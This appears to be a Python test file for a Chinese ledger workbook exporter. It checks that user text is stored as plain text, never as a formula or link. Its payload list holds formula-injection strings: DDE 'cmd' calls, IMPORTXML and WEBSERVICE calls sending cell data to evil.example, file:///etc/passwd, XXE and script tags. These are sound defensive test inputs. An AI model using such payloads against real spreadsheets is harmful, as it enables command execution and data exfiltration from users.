"""The ledger's workbook: text stays text, whatever people wrote."""

import io
import zipfile

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from reports.ledger import MOST_CHARACTERS, Cell, LedgerBook, printable
from tests.summary import Tally

HEADERS = ["序号", "问题"]

PAYLOADS = [
    *(sign + "1+1" for sign in "=+-@"),
    *(sign + 'cmd|"/c calc"!A0' for sign in "=+-@"),
    *(lead + "=1+1" for lead in ("\t", "\r", "\n", " ", "\u00a0", "\u3000", "\ufeff", "\x00", "'")),
    '=HYPERLINK("http://evil.example","点我")',
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    '=WEBSERVICE("http://evil.example")',
    '=IMAGE("http://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)",
    "{=SUM(A1:A9)}",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "=",
    "==",
    "=#REF!",
    "#N/A",
    "http://evil.example",
    "https://evil.example/a b",
    "ftp://evil.example",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "<script>alert(1)</script>",
    "</t></is></c><c><f>1+1</f></c>",
    "]]>",
    "&lt;f&gt;",
    "&#61;1+1",
    "&amp;",
    "\"quoted\", 'single'",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "_x0041_",
    "_x003D_1+1",
    "\x00",
    "\x01\x02\x07\x08",
    "a\x0bb\x0cc",
    "\x1b[31mred",
    "\x7f\x85",
    "\ud800",
    "\udfff text",
    "\ufffe\uffff",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "1" * 400,
    "1e308",
    "00012",
    "2026-03-11",
    "TRUE",
    "x" * 40_000,
    "😀" * 20_000,
    "行一\r\n行二\n行三",
]


def written(rows: list[list[Cell]]) -> bytes:
    book = LedgerBook("园区问题台账", "问题台账", HEADERS)
    book.add(rows)
    return book.finish("统计", [["受理", 3]])


def reopened(content: bytes) -> Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(content))["问题台账"]
    assert isinstance(sheet, Worksheet)
    return sheet


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_people_wrote_is_never_a_formula_nor_a_link(payload: str, tally: Tally) -> None:
    content = written([[1, payload]])
    for row in reopened(content).iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n")
            assert cell.hyperlink is None
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        page = parts.read("xl/worksheets/sheet1.xml")
        assert not any("externalLink" in name or "rels/sheet" in name for name in parts.namelist())
    assert b"<f>" not in page
    assert b"hyperlink" not in page
    tally("S7", 1)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_text_looks_in_the_cell_as_it_was_written(payload: str) -> None:
    cell = reopened(written([[1, payload]])).cell(3, 2)
    shown = printable(payload)
    if not shown:
        assert cell.value is None
    elif "_x00" in shown:  # the file says _x005F_x0041_, which Excel shows as _x0041_
        assert cell.value == shown.replace("_x", "_x005F_x")
    else:
        assert cell.value == shown


def test_control_characters_are_left_out_and_line_breaks_kept() -> None:
    assert printable("a\x00b\x1b\r\nc\td\ud800\u202e") == "ab\nc\td"


@pytest.mark.parametrize("long", ["x" * 40_000, "😀" * 20_000, "x" + "😀" * 20_000])
def test_a_text_that_is_too_long_is_cut_with_a_mark(long: str) -> None:
    cut = printable(long)
    assert MOST_CHARACTERS - 1 <= len(cut.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
    assert cut.endswith("…")


def test_title_and_headers_stay_in_sight() -> None:
    sheet = reopened(written([[1, "a"], [2, "b"]]))
    assert sheet["A1"].value == "园区问题台账"
    assert [cell.value for cell in sheet[2]] == HEADERS
    assert sheet.freeze_panes == "A3"
    assert [cell.value for cell in sheet["B"]][2:] == ["a", "b"]


def test_our_own_numbers_are_numbers() -> None:
    cell = reopened(written([[7, "a"]])).cell(3, 1)
    assert (cell.value, cell.data_type) == (7, "n")


def test_the_figures_stand_on_a_second_sheet() -> None:
    book = openpyxl.load_workbook(io.BytesIO(written([])))
    assert book.sheetnames == ["问题台账", "统计"]
    assert [cell.value for cell in book["统计"][1]] == ["受理", 3]
